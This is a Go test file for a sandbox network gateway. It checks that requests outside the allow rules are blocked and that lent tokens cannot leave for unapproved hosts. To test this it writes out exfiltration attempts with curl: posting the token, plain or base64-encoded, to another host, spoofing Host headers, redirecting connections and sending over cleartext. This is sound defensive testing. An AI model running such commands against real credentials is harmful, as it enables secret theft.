package attacks

import (
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/websocket"

	"github.com/bothy-dev/bothy/test/harness"
	"github.com/bothy-dev/bothy/test/stage"
)

// service is a real server on the internet of a stage, over TLS, with HTTP/1 and HTTP/2. It echoes each
// request, and records it.
type service struct {
	roots string        // a file with the authorities to trust
	seen  chan struct{} // an event was seen

	mu  sync.Mutex
	got []string
}

func newService(t *testing.T, c *harness.Caller) *service {
	t.Helper()
	s := &service{seen: make(chan struct{})}
	s.roots = c.Write(t, filepath.Join(c.Work, "roots.pem"), stage.Web(t, stage.Listen(t, "8443"), s))
	return s
}

func (s *service) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch r.RequestURI {
	case "/v1/socket":
		websocket.Server{Handler: s.socket}.ServeHTTP(w, r)
		return
	case "/v1/events":
		s.events(w, r)
		return
	case "/v1/seen":
		s.seen <- struct{}{}
		return
	}
	body, _ := io.ReadAll(r.Body)
	told := fmt.Sprintf("%s %s %s\n%v\n%s\n", r.Proto, r.Method, r.RequestURI, r.Header, body)
	s.note(told)
	w.Header().Set("X-Echo", r.Header.Get("Authorization"))
	fmt.Fprint(w, told)
}

// note records a request.
func (s *service) note(what string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got = append(s.got, what)
}

// list returns the requests since saw was called.
func (s *service) list() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.got)
}

// saw returns the requests since the last call.
func (s *service) saw() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	text := strings.Join(s.got, "\n")
	s.got = nil
	return text
}

// TestInspectedRequests has an ordinary program in a real sandbox talk to a real server through the
// gateway. Requests that no rule covers and the values of lent secrets never get past it, in either
// direction (A11, B3, C1, C2, C3, C8, C12), nor does an unwanted call (B8). The same applies to
// WebSocket (B4), events, a database (A10), and git with its own protocol.
func TestInspectedRequests(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		web := newService(t, c)
		c.Env = append(c.Env, "SSL_CERT_FILE="+web.roots)
		const api, other = "api.example.net:8443", "other.example.net:8443"
		s.Leads("api.example.net", stage.Host4.String())
		s.Leads("other.example.net", stage.Host4.String())
		c.Must(t, "policy", "allow", api, "--method", "GET", "--method", "POST", "--path", "/v1/**")
		c.Must(t, "policy", "allow", other, "--method", "POST")
		c.Must(t, "create", "--name", "box", "shell", c.Work)
		curl := func(args ...string) harness.Result {
			return c.Run(append([]string{"exec", "box", "curl", "-sS", "-i", "--max-time", "60"}, args...)...)
		}
		for _, version := range []string{"--http1.1", "--http2"} {
			r := curl(version, "https://"+api+"/v1/things?x=1", "-H", "X-Kept: as it is")
			if r.Code != 0 || !strings.Contains(r.Stdout, "GET /v1/things?x=1") || !strings.Contains(r.Stdout, "X-Kept:[as it is]") {
				t.Errorf("%s: an allowed request: %v", version, r)
			}
			web.saw()
			for what, args := range map[string][]string{
				"another path":      {"https://" + api + "/v2/things"},
				"another method":    {"-X", "DELETE", "https://" + api + "/v1/things"},
				"a hidden method":   {"-H", "X-HTTP-Method-Override: DELETE", "https://" + api + "/v1/things"},
				"another authority": {"-H", "Host: " + other, "https://" + api + "/v1/things"},
				"dots":              {"--path-as-is", "https://" + api + "/v1/../v2"},
			} {
				r := curl(append([]string{version}, args...)...)
				if r.Code != 0 || !strings.Contains(r.Stdout, "bothy: ") || !strings.Contains(r.Stdout, " 403") && !strings.Contains(r.Stdout, " 421") {
					t.Errorf("%s, %s: %v", version, what, r)
				}
			}
			if got := web.saw(); got != "" {
				t.Errorf("%s: the server saw %s", version, got)
			}
		}

		me := c.Plant(t, c.Work)
		web.protocols(t, c, s, me, api)
		databases(t, c, s, me)
		plainGit(t, c, s)
		web.bodies(t, c, s, curl)
		web.calls(t, c, s, curl)

		const value = "ghp_realrealrealrealrealrealrealrealreal"
		if r := c.RunInput(value, "secret", "set", "token", "--service", "github"); r.Code != 0 {
			t.Fatal(r)
		}
		c.Must(t, "secret", "lease", "token", "--sandbox", "box", "--host", api, "--bearer", "--env", "API_TOKEN")
		sh := func(script string) harness.Result { return c.Run("exec", "box", "sh", "-c", script) }
		for _, version := range []string{"--http1.1", "--http2"} {
			r := sh(`curl -sS -i ` + version + ` https://` + api + `/v1/me -H "Authorization: Bearer $API_TOKEN" -H "X-Api-Key: of-somebody-else" -b session=of-somebody-else`)
			got := web.saw()
			if r.Code != 0 || strings.Contains(r.Stdout, value) || !strings.Contains(got, "Bearer "+value) || strings.Contains(got, "somebody") {
				t.Errorf("%s: %v\nthe server got %s", version, r, got)
			}
			for _, data := range []string{`"here: $API_TOKEN"`, `"$(printf %s "$API_TOKEN" | base64 -w0)"`} {
				r := sh(`curl -sS -i ` + version + ` https://` + other + `/v1/me --data-raw ` + data)
				if got := web.saw(); strings.Contains(got, "ghp_") || strings.Contains(r.Stdout, " 200") {
					t.Errorf("%s, %s: %v\nthe server got %s", version, data, r, got)
				}
			}
		}
		// Settings of a project may name another host, or the right one on the wrong connection: the
		// host that the gateway has reached decides where the value goes.
		for what, args := range map[string]string{
			"to another host":   `https://` + other + `/v1/me`,
			"by its name alone": `-H "Host: ` + api + `" https://` + other + `/v1/me`,
			"to its address":    `--connect-to ` + api + `:` + other + ` https://` + api + `/v1/me`,
			"in the clear":      `http://` + api + `/v1/me`,
		} {
			r := sh(`curl -sS -i -X POST -H "Authorization: Bearer $API_TOKEN" ` + args)
			if got := web.saw(); got != "" || strings.Contains(r.Stdout, " 200") {
				t.Errorf("a credential %s: %v\nthe server got %s", what, r, got)
			}
		}
		if out := c.Must(t, "secret", "audit", "--json"); !strings.Contains(out, "api.example.net") {
			t.Errorf("the uses are not told: %s", out)
		}
		placeholder := strings.TrimSpace(sh(`echo "$API_TOKEN"`).Stdout)
		c.Must(t, "secret", "revoke", "--all")
		if r := curl("https://"+api+"/v1/me", "-H", "Authorization: Bearer "+placeholder); !strings.Contains(r.Stdout, " 403") || web.saw() != "" {
			t.Errorf("revoked: %v", r)
		}
		c.Must(t, "rm", "-f", "box")
	})
}

// bodies checks which requests conditions on headers and on the size of a body let through.
func (s *service) bodies(t *testing.T, c *harness.Caller, st *stage.Stage, curl func(...string) harness.Result) {
	t.Helper()
	const up = "up.example.net:8443"
	st.Leads("up.example.net", stage.Host4.String())
	c.Must(t, "policy", "allow", up, "--method", "PUT", "--header", "X-Kind: report", "--max-body", "1KiB")
	put := func(kind string, size int) harness.Result {
		return curl("-X", "PUT", "https://"+up+"/", "-H", "X-Kind: "+kind, "--data-raw", strings.Repeat("x", size))
	}
	if r := put("report", 1024); !strings.Contains(r.Stdout, " 200") || !strings.Contains(s.saw(), "PUT /") {
		t.Errorf("what the rule asks for: %v", r)
	}
	if r := put("other", 1024); !strings.Contains(r.Stdout, " 403") || s.saw() != "" {
		t.Errorf("another header: %v", r)
	}
	if r := put("report", 1025); !strings.Contains(r.Stdout, " 403") || s.saw() != "" {
		t.Errorf("a larger body: %v", r)
	}
}
